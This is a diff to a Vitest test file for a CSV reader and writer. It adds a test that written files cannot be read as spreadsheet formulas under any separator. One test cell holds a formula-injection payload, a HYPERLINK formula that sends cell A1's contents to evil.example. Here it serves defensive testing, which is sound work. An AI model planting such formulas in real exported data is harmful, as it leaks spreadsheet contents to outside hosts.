@@ -1,5 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { readCsv } from "./csv-file.ts";
+import { csvOf } from "./csv-lines.ts";
 
 const ROWS = [
   { line: 1, cells: ["Name", "Note"] },
@@ -47,6 +48,22 @@ describe("a file", () => {
       { line: 2, cells: ["1", "2"] },
     ]);
   });
+
+  it.each(["en", "de", "fil"] as const)(
+    "that we write in %s calculates nothing, whatever splits it, and comes back",
+    async (language) => {
+      const cells = ["Ana", 'x,=HYPERLINK("http://evil.example/?"&A1),y', "x; +1|-1"];
+      const file = csvOf([cells, cells], language);
+      const own = language === "de" ? ";" : ",";
+      for (const other of [",", ";", "|"].filter((separator) => separator !== own)) {
+        for (const cell of file.split(other)) expect(cell).not.toMatch(/^[" ]*[=+@-]/);
+      }
+      expect(await read(file)).toEqual([
+        { line: 1, cells },
+        { line: 2, cells },
+      ]);
+    },
+  );
 
   it("loses the ' that guards a text from being calculated, and no other", async () => {
     expect(await read("'=1+1,'+63 917,'-5,'@x,'hello,'s-Hertogenbosch,''=1")).toEqual([
